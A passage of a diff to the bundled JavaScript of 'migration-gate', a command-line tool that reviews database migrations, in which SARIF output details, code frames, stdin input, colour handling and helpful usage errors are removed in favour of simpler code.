-        rows.push(`| ${inlineCode(f.path)} | ${Number(f.line) || 0} | ${ruleLink(f.ruleId)} | ${escapeMd(f.severity)}${flags ? ` (${flags})` : ''} | ${escapeMd(f.message)} |`);
+        rows.push(`| ${inlineCode(f.path)} | ${Number(f.line) || 0} | ${escapeMd(f.ruleId)} | ${escapeMd(f.severity)}${flags ? ` (${flags})` : ''} | ${escapeMd(f.message)} |`);
     }
     return rows.join('\n');
 }
@@ -51680,59 +48496,12 @@ function toMarkdown(result) {
 
 ;// CONCATENATED MODULE: ./src/report/sarif.ts
 // SARIF 2.1.0 for GitHub code scanning. Messages and snippets are already redacted.
-// What code scanning reads (docs.github.com, "SARIF support for code scanning"): rule `name` (a
-// friendly PascalCase name, not the id), `helpUri`, `help`, `properties.security-severity` (0.1–10;
-// with the `security` tag it becomes the alert's severity), `partialFingerprints`, URIs relative to
-// the repository root (`%SRCROOT%`), and `automationDetails.id` (the analysis category).
-
 
 const LEVEL = { error: 'error', warning: 'warning', info: 'note' };
-/** GitHub's bands: ≥ 9.0 critical, 7.0–8.9 high, 4.0–6.9 medium, 0.1–3.9 low. */
-const CATEGORY_SEVERITY = {
-    credential: 9.1,
-    execution: 8.8,
-    privilege: 8.0,
-    dynamic: 7.0,
-    destructive: 6.5,
-    integrity: 5.5,
-    parse: 5.0,
-    safety: 3.0,
-};
-function securitySeverity(category, severity) {
-    const base = CATEGORY_SEVERITY[category] ?? 5.0;
-    const s = severity === 'error' ? base : severity === 'warning' ? Math.min(base, 4.0) : 1.0;
-    return s.toFixed(1);
-}
-/** `drop-column` → `DropColumn`: SARIF's friendly rule name. */
-function pascalName(id) {
-    return id
-        .split(/[^A-Za-z0-9]+/)
-        .filter(Boolean)
-        .map((w) => w[0].toUpperCase() + w.slice(1))
-        .join('');
-}
-/** A relative path as a URI reference: each segment percent-encoded (`#`, `?`, spaces, …). */
-function pathUri(path) {
-    return path.split('/').map(encodeURIComponent).join('/');
-}
-function toSarif(result, rules = rules_rules, version = '0.1.0', opts = {}) {
+function toSarif(result, rules = rules_rules, version = '0.1.0') {
     const used = new Set(result.findings.map((f) => f.ruleId));
     const ruleList = rules.filter((r) => used.has(r.meta.id));
     const index = new Map(ruleList.map((r, i) => [r.meta.id, i]));
-    const prefix = opts.pathFromRoot ? opts.pathFromRoot.replace(/\/+$/, '') + '/' : '';
-    const location = (path) => {
-        // Absolute paths (outside the working directory) and paths that leave the root stay as they are.
-        if (path.startsWith('/') || /^[A-Za-z]:/.test(path))
-            return { uri: 'file://' + (path.startsWith('/') ? '' : '/') + pathUri(path.replace(/\\/g, '/')) };
-        const joined = (prefix + path).split('/').reduce((acc, seg) => {
-            if (seg === '..' && acc.length && acc[acc.length - 1] !== '..')
-                acc.pop();
-            else if (seg !== '.' && seg !== '')
-                acc.push(seg);
-            return acc;
-        }, []);
-        return { uri: pathUri(joined.join('/')), uriBaseId: '%SRCROOT%' };
-    };
     const sarif = {
         $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
         version: '2.1.0',
@@ -51742,39 +48511,28 @@ function toSarif(result, rules = rules_rules, version = '0.1.0', opts = {}) {
                     driver: {
                         name: 'migration-gate',
                         version,
-                        semanticVersion: version,
-                        informationUri: REPO_URL,
+                        informationUri: 'https://github.com/migration-gate/migration-gate',
                         rules: ruleList.map((r) => ({
                             id: r.meta.id,
-                            name: pascalName(r.meta.id),
-                            shortDescription: { text: r.meta.summary.endsWith('.') ? r.meta.summary : r.meta.summary + '.' },
-                            fullDescription: { text: r.meta.rationale.endsWith('.') ? r.meta.rationale : r.meta.rationale + '.' },
-                            helpUri: ruleUrl(r.meta.id),
-                            // Our own text: markdown as written (trusted), plain text without the backticks.
-                            help: { text: `${r.meta.fix.replace(/`/g, '')}\n\n${ruleUrl(r.meta.id)}`, markdown: `${r.meta.fix}\n\n[Rule documentation](${ruleUrl(r.meta.id)})` },
+                            name: r.meta.id,
+                            shortDescription: { text: r.meta.summary },
+                            fullDescription: { text: r.meta.rationale },
+                            help: { text: r.meta.fix, markdown: r.meta.fix },
                             defaultConfiguration: { level: LEVEL[r.meta.severity] },
-                            properties: {
-                                category: r.meta.category,
-                                tags: ['security', 'migration', r.meta.category],
-                                precision: 'high',
-                                'security-severity': securitySeverity(r.meta.category, r.meta.severity),
-                            },
+                            properties: { category: r.meta.category, tags: ['security', 'migration', r.meta.category] },
                         })),
                     },
                 },
-                automationDetails: { id: 'migration-gate/' },
-                columnKind: 'utf16CodeUnits',
-                ...(opts.rootUri ? { originalUriBaseIds: { '%SRCROOT%': { uri: opts.rootUri.endsWith('/') ? opts.rootUri : opts.rootUri + '/' } } } : {}),
                 results: result.findings.map((f) => ({
                     ruleId: f.ruleId,
                     ruleIndex: index.get(f.ruleId),
                     level: LEVEL[f.severity],
-                    message: { text: /[.!?)]$/.test(f.message) ? f.message : f.message + '.' },
+                    message: { text: f.message },
                     locations: [
                         {
                             physicalLocation: {
-                                artifactLocation: location(f.path),
-                                region: { startLine: f.line, startColumn: f.column, endLine: Math.max(f.endLine, f.line), ...(f.snippet ? { snippet: { text: f.snippet } } : {}) },
+                                artifactLocation: { uri: f.path },
+                                region: { startLine: f.line, startColumn: f.column, endLine: f.endLine, snippet: { text: f.snippet } },
                             },
                         },
                     ],
@@ -51787,85 +48545,15 @@ function toSarif(result, rules = rules_rules, version = '0.1.0', opts = {}) {
     return JSON.stringify(sarif, null, 2) + '\n';
 }
 
-;// CONCATENATED MODULE: ./src/cli/repo-root.ts
-// SARIF locations are relative to the repository root (what code scanning resolves them
-// against), while the CLI's paths are relative to its working directory.
-
-
-
-function sarifRoot(cwd = process.cwd()) {
-    let top = null;
-    try {
-        top = (0,external_node_child_process_namespaceObject.execFileSync)('git', ['rev-parse', '--show-toplevel'], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim() || null;
-    }
-    catch {
-        top = null; // not a work tree, or no git: the working directory is the root
-    }
-    if (!top)
-        return { pathFromRoot: '', rootUri: (0,external_node_url_namespaceObject.pathToFileURL)(cwd).href };
-    let real = cwd;
-    try {
-        real = (0,external_node_child_process_namespaceObject.execFileSync)('git', ['rev-parse', '--show-prefix'], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();
-        return { pathFromRoot: real.replace(/\/$/, ''), rootUri: (0,external_node_url_namespaceObject.pathToFileURL)(top).href };
-    }
-    catch {
-        return { pathFromRoot: (0,external_node_path_.relative)(top, cwd).split('\\').join('/'), rootUri: (0,external_node_url_namespaceObject.pathToFileURL)(top).href };
-    }
-}
-
 ;// CONCATENATED MODULE: ./src/report/text.ts
-// Human output: grouped by file, aligned columns, a code frame with a caret under the column, the
-// rule's fix hint and documentation link; colour (util.styleText) only when the caller says so.
-
-
-
-const FIX = new Map(rules_rules.map((r) => [r.meta.id, r.meta.fix]));
+const C = { red: '\x1b[31m', yellow: '\x1b[33m', blue: '\x1b[34m', dim: '\x1b[2m', bold: '\x1b[1m', reset: '\x1b[0m' };
 /** Strip control characters from untrusted text before it reaches a terminal. */
 function clean(s) {
     // eslint-disable-next-line no-control-regex
     return s.replace(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/g, '�');
 }
-/**
- * The part of the finding's source line that its snippet shows, with the caret position. The
- * snippet is redacted (secrets masked) and whitespace-folded; the raw line is shown only where it
- * folds to exactly the snippet, so a masked secret never reappears and text beside the statement
- * (another statement on the same line) is not shown. Otherwise null: the snippet is shown.
- */
-function codeFrame(source, f) {
-    if (source === undefined || !f.snippet)
-        return null;
-    const lines = source.split('\n');
-    const raw = (lines[f.line - 1] ?? '').replace(/\r$/, '');
-    const want = f.snippet.replace(/ ?…$/, '');
-    if (!want)
-        return null;
-    for (let start = raw.indexOf(want[0]); start >= 0; start = raw.indexOf(want[0], start + 1)) {
-        let i = start;
-        let j = 0;
-        while (j < want.length && i < raw.length) {
-            if (want[j] === ' ' && /\s/.test(raw[i])) {
-                while (i < raw.length && /\s/.test(raw[i]))
-                    i++;
-                j++;
-            }
-            else if (want[j] === raw[i]) {
-                i++;
-                j++;
-            }
-            else
-                break;
-        }
-        if (j === want.length) {
-            const text = raw.slice(start, i).replace(/\t/g, ' ');
-            const col = f.column - 1 - start;
-            return { text: text + (f.snippet.endsWith('…') ? ' …' : ''), caret: col >= 0 && col < text.length ? col : null };
-        }
-    }
-    return null;
-}
-function toText(result, opts = {}) {
-    const o = typeof opts === 'boolean' ? { color: opts } : opts;
-    const c = (style, s) => (o.color ? (0,external_node_util_namespaceObject.styleText)(style, s) : s);
+function toText(result, color = false) {
+    const c = (code, s) => (color ? C[code] + s + C.reset : s);
     const byFile = new Map();
     for (const f of result.findings) {
         const list = byFile.get(f.path) ?? [];
@@ -51878,28 +48566,12 @@ function toText(result, opts = {}) {
         if (!list?.length)
             continue;
         lines.push(c('bold', clean(file.path)) + c('dim', `  (${file.kind}, ${file.dialect ?? '-'})`));
-        const posW = Math.max(...list.map((f) => `${f.line}:${f.column}`.length));
-        const ruleW = Math.max(...list.map((f) => f.ruleId.length));
-        const indent = ' '.repeat(2 + posW + 2);
         for (const f of list) {
-            const sevWord = f.severity.padEnd(7);
-            const sev = f.severity === 'error' ? c('red', sevWord) : f.severity === 'warning' ? c('yellow', sevWord) : c('blue', sevWord);
-            const tag = f.gating ? c('bold', `[needs approval: ${f.category}]`) : f.down ? c('dim', '[down migration: reported only]') : c('dim', '[reported only]');
-            lines.push(`  ${`${f.line}:${f.column}`.padEnd(posW)}  ${sev}  ${c('cyan', f.ruleId.padEnd(ruleW))}  ${clean(f.message)}  ${tag}`);
-            const frame = codeFrame(o.sources?.get(f.path), f);
-            const gutter = c('dim', `${String(f.line).padStart(String(f.line).length)} │ `);
-            if (frame) {
-                lines.push(`${indent}${gutter}${clean(frame.text)}`);
-                if (frame.caret !== null)
-                    lines.push(`${indent}${' '.repeat(String(f.line).length)}${c('dim', ' │ ')}${' '.repeat(frame.caret)}${c('red', '^')}`);
-            }
-            else if (f.snippet)
-                lines.push(`${indent}${gutter}${clean(f.snippet)}`);
-            const fix = FIX.get(f.ruleId);
-            // Our own text (trusted): `code` spans are shown as code, not escaped.
-            if (fix)
-                lines.push(`${indent}${c('green', 'fix:')} ${o.color ? fix.replace(/`([^`]+)`/g, (_m, code) => (0,external_node_util_namespaceObject.styleText)('cyan', code)) : fix}`);
-            lines.push(`${indent}${c('dim', 'docs:')} ${c('underline', ruleUrl(f.ruleId))}`);
+            const sev = f.severity === 'error' ? c('red', 'error  ') : f.severity === 'warning' ? c('yellow', 'warning') : c('blue', 'info   ');
+            const gate = f.gating ? c('bold', ' [gating]') : f.down ? c('dim', ' [down]') : '';
+            lines.push(`  ${f.line}:${f.column}  ${sev}  ${clean(f.message)}  ${c('dim', `${f.category}/${f.ruleId}`)}${gate}`);
+            if (f.snippet)
+                lines.push(c('dim', `      ${clean(f.snippet)}`));
         }
         lines.push('');
     }
@@ -51907,7 +48579,7 @@ function toText(result, opts = {}) {
     const cats = Object.entries(s.byCategory)
         .map(([k, v]) => `${k} ${v}`)
         .join(', ');
-    const verdict = s.gating ? c('red', `✖ ${s.gating} finding(s) need approval`) : c('bold', '✔ no gating findings');
+    const verdict = s.gating ? c('red', `✖ ${s.gating} gating finding(s)`) : c('bold', '✔ no gating findings');
     lines.push(`${verdict} — ${s.findings} finding(s)${cats ? ` (${cats})` : ''} in ${s.files} file(s), ${s.statements} statement(s)`);
     return lines.join('\n') + '\n';
 }
@@ -51925,59 +48597,24 @@ function toText(result, opts = {}) {
 
 
 
-
-
-
 const VERSION = '0.1.0';
-const FORMATS = ['text', 'json', 'sarif', 'markdown'];
-const COMMANDS = ['check', 'help'];
 const USAGE = `Usage: migration-gate check [options] PATH...
-       migration-gate check [options] -          (read one migration from standard input)
-       migration-gate help
 
 Reviews database migrations: flags destructive statements, privilege changes, code execution
-and hardcoded credentials. PATHs are files (always checked) or directories (walked with the
-migration globs, honouring .gitignore in a git work tree).
+and hardcoded credentials. PATHs are files or directories (walked with the migration globs).
 
 Options:
-  --dialect D           SQL dialect: ${DIALECTS.join(', ')}
-                        (default: from the path, Prisma's migration_lock.toml, else postgresql)
-  --format F            ${FORMATS.join(', ')} (default: text)
-  --config FILE         YAML/JSON config (rules, include/exclude globs, down migrations, policy)
-  -o, --output FILE     write the report to FILE instead of standard output
-  --stdin-filename NAME the name standard input is checked as (default: stdin.sql); its
-                        extension and folders choose the kind (SQL, Alembic, Django, config)
-  -h, --help            this help
-  -v, --version         print the version
+  --dialect D      SQL dialect: ${DIALECTS.join(', ')}
+                   (default: from the path, Prisma's migration_lock.toml, else postgresql)
+  --format F       text (default), json, sarif, markdown
+  --config FILE    YAML/JSON config (rules, include/exclude globs, down migrations, policy)
+  -o, --output F   write the report to a file instead of standard output
+  -h, --help       this help
+  -v, --version    print the version
 
-Colour: on a terminal, unless NO_COLOR is set or TERM=dumb; FORCE_COLOR=1 forces it.
 Exit status: 0 no gating finding, 1 gating findings, 2 usage or configuration error.
 `;
-const OPTIONS = ['--dialect', '--format', '--config', '--output', '--stdin-filename', '--help', '--version'];
-/** `did you mean …?` for a mistyped word: the closest candidate, at most 2 edits (or a third of its length) away. */
-function suggest(word, candidates) {
-    let best = '';
-    let bestD = Infinity;
-    for (const c of candidates) {
-        const d = (0,mod/* distance */.Io)(word.toLowerCase(), c.toLowerCase());
-        if (d < bestD)
-            [best, bestD] = [c, d];
-    }
-    return best && bestD < word.length && bestD <= Math.max(2, Math.floor(best.length / 3)) ? ` (did you mean '${best}'?)` : '';
-}
-/** Colour per NO_COLOR (no-color.org), FORCE_COLOR (0/false: off, else on) and TERM=dumb. */
-function useColor(env, isTTY) {
-    if (env.NO_COLOR)
-        return false;
-    if (env.FORCE_COLOR !== undefined)
-        return !['0', 'false'].includes(env.FORCE_COLOR.toLowerCase());
-    if (env.TERM === 'dumb')
-        return false;
-    return isTTY;
-}
 class UsageError extends Error {
-}
-class OutputError extends Error {
 }
 async function main(argv, io) {
     try {
@@ -51985,10 +48622,10 @@ async function main(argv, io) {
     }
     catch (e) {
         if (e instanceof UsageError) {
-            io.stderr(`migration-gate: ${e.message}\nRun 'migration-gate help' for usage.\n`);
+            io.stderr(`migration-gate: ${e.message}\n\n${USAGE}`);
             return 2;
         }
-        if (e instanceof ConfigError || e instanceof DiscoverError || e instanceof OutputError) {
+        if (e instanceof ConfigError || e instanceof DiscoverError) {
             io.stderr(`migration-gate: ${e.message}\n`);
             return 2;
         }
@@ -52008,16 +48645,13 @@ async function mainInner(argv, io) {
                 format: { type: 'string', default: 'text' },
                 config: { type: 'string' },
                 output: { type: 'string', short: 'o' },
-                'stdin-filename': { type: 'string' },
                 help: { type: 'boolean', short: 'h' },
                 version: { type: 'boolean', short: 'v' },
             },
         });
     }
     catch (e) {
-        const msg = e.message;
-        const opt = /option '([^']+)'/.exec(msg)?.[1];
-        throw new UsageError(opt && /^Unknown option/.test(msg) ? `unknown option '${opt}'${suggest(opt.replace(/=.*/, ''), OPTIONS)}` : msg.split('\n')[0]);
+        throw new UsageError(e.message);
     }
     const { values, positionals } = parsed;
     if (values.help) {
@@ -52029,63 +48663,30 @@ async function mainInner(argv, io) {
         return 0;
     }
     const [command, ...paths] = positionals;
-    if (command === 'help') {
-        io.stdout(USAGE);
-        return 0;
-    }
     if (command !== 'check')
-        throw new UsageError(command ? `unknown command '${command}'${suggest(command, COMMANDS)}` : 'missing command (check or help)');
+        throw new UsageError(command ? `unknown command '${command}'` : 'missing command');
     if (!paths.length)
-        throw new UsageError("no PATH given (a file, a directory, or '-' for standard input)");
+        throw new UsageError('no PATH given');
     const format = values.format ?? 'text';
-    if (!FORMATS.includes(format))
-        throw new UsageError(`unknown format '${format}'${suggest(format, FORMATS) || ` (one of ${FORMATS.join(', ')})`}`);
+    if (!['text', 'json', 'sarif', 'markdown'].includes(format))
+        throw new UsageError(`unknown format '${format}'`);
     let dialect;
     if (values.dialect !== undefined) {
         if (!DIALECTS.includes(values.dialect))
-            throw new UsageError(`unknown dialect '${values.dialect}'${suggest(values.dialect, DIALECTS) || ` (one of ${DIALECTS.join(', ')})`}`);
+            throw new UsageError(`unknown dialect '${values.dialect}' (one of ${DIALECTS.join(', ')})`);
         dialect = values.dialect;
     }
-    const stdinCount = paths.filter((p) => p === '-').length;
-    if (stdinCount > 1)
-        throw new UsageError("'-' (standard input) can be given once");
-    if (values['stdin-filename'] !== undefined && !stdinCount)
-        throw new UsageError("--stdin-filename needs '-' among the PATHs");
     const config = values.config ? loadConfigFile(values.config) : {};
     preload(); // compile the parser while the files are read
-    const files = discoverFiles(paths.filter((p) => p !== '-'), config);
-    if (stdinCount) {
-        if (!io.readStdin)
-            throw new UsageError('standard input is not supported here');
-        const name = values['stdin-filename'] ?? 'stdin.sql';
-        if (!name.trim())
-            throw new UsageError('--stdin-filename is empty');
-        files.push({ path: name.replace(/\\/g, '/'), content: await io.readStdin() });
-    }
+    const files = discoverFiles(paths, config);
+    if (!files.length)
+        io.stderr('migration-gate: no migration files found under the given paths\n');
     const result = await run(files, { config, dialect });
-    let out;
-    if (format === 'json')
-        out = toJson(result);
-    else if (format === 'sarif')
-        out = toSarif(result, undefined, VERSION, sarifRoot());
-    else if (format === 'markdown')
-        out = toMarkdown(result);
-    else {
-        // The code frame shows the source line itself, so the text report needs the files' text.
-        const sources = new Map(files.map((f) => [f.path, extract_decode(f.content).text]));
-        out = toText(result, { color: !values.output && useColor(io.env ?? {}, io.isTTY), sources });
-    }
+    const out = format === 'json' ? toJson(result) : format === 'sarif' ? toSarif(result, undefined, VERSION) : format === 'markdown' ? toMarkdown(result) : toText(result, io.isTTY && !values.output && !process.env.NO_COLOR);
     if (values.output) {
         if (!io.writeFile)
             throw new UsageError('--output is not supported here');
-        try {
-            io.writeFile(values.output, out);
-        }
-        catch (e) {
-            const err = e;
-            const why = err.code === 'ENOENT' ? 'its directory does not exist' : err.code === 'EISDIR' ? 'it is a directory' : err.code === 'EACCES' || err.code === 'EPERM' ? 'permission denied' : (err.code ?? err.message);
-            throw new OutputError(`cannot write the report to ${values.output}: ${why}`);
-        }
+        io.writeFile(values.output, out);
     }
     else
         io.stdout(out);
@@ -52108,13 +48709,6 @@ main(process.argv.slice(2), {
     stderr: (s) => process.stderr.write(s),
     isTTY: !!process.stdout.isTTY,
     writeFile: (p, d) => (0,external_node_fs_.writeFileSync)(p, d),
-    readStdin: async () => {
-        const chunks = [];
-        for await (const c of process.stdin)
-            chunks.push(c);
-        return new Uint8Array(Buffer.concat(chunks));
-    },
-    env: process.env,
 }).then((code) => {
     process.exitCode = code;
 });
